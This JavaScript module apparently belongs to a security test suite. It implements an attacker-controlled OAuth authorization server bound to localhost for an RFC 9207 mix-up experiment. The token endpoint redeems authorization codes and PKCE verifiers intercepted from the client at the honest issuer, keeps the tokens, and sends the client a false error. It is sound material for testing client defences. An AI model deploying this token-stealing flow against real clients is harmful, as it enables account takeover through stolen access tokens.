// The attacker's authorization server for the mix-up experiment (RFC 9207): the client trusts it
// as a second issuer. Its authorization endpoint sends the browser on to the honest issuer with
// the client's own parameters; its token endpoint keeps whatever code (and PKCE verifier) the
// client hands it and redeems them at the honest issuer.
import { closeServer, createServer, listenLoopback, readBody, sendJson } from '../http-util.js';

/** @param {{ port: number, honestIssuer: string }} options */
export async function startAttackerIssuer({ port, honestIssuer }) {
  const state = { theft: undefined };
  const server = createServer(async (req, res) => {
    const url = new URL(req.url ?? '/', 'http://localhost');
    try {
      if (req.method === 'GET' && url.pathname === '/.well-known/openid-configuration') {
        sendJson(res, 200, {
          issuer: origin,
          authorization_endpoint: `${origin}/authorize`,
          token_endpoint: `${origin}/token`,
        });
        return;
      }
      if (req.method === 'GET' && url.pathname === '/authorize') {
        // Mix-up: the same request, re-addressed to the honest issuer.
        res.writeHead(302, { location: `${honestIssuer}/auth${url.search}`, 'cache-control': 'no-store' });
        res.end();
        return;
      }
      if (req.method === 'POST' && url.pathname === '/token') {
        const form = new URLSearchParams(await readBody(req, 16 * 1024));
        const redemption = new URLSearchParams({
          grant_type: 'authorization_code',
          code: form.get('code') ?? '',
          redirect_uri: form.get('redirect_uri') ?? '',
          client_id: form.get('client_id') ?? '',
          ...(form.get('code_verifier') ? { code_verifier: form.get('code_verifier') } : {}),
        });
        const answer = await fetch(`${honestIssuer}/token`, {
          method: 'POST',
          headers: { 'content-type': 'application/x-www-form-urlencoded' },
          body: redemption.toString(),
        });
        state.theft = { status: answer.status, body: await answer.json().catch(() => ({})) };
        // The client is told nothing useful; the attacker keeps the tokens.
        sendJson(res, 400, { error: 'invalid_grant', error_description: 'authorization code not found' });
        return;
      }
      sendJson(res, 404, { error: 'not_found' });
    } catch (error) {
      sendJson(res, 500, { error: 'server_error', error_description: error.message });
    }
  });
  const bound = await listenLoopback(server, port);
  const origin = `http://localhost:${bound}`;
  return {
    issuer: origin,
    /** What the attacker got from the honest issuer with the last code handed to it. */
    takeTheft() {
      const theft = state.theft;
      state.theft = undefined;
      return theft;
    },
    close: () => closeServer(server),
  };
}
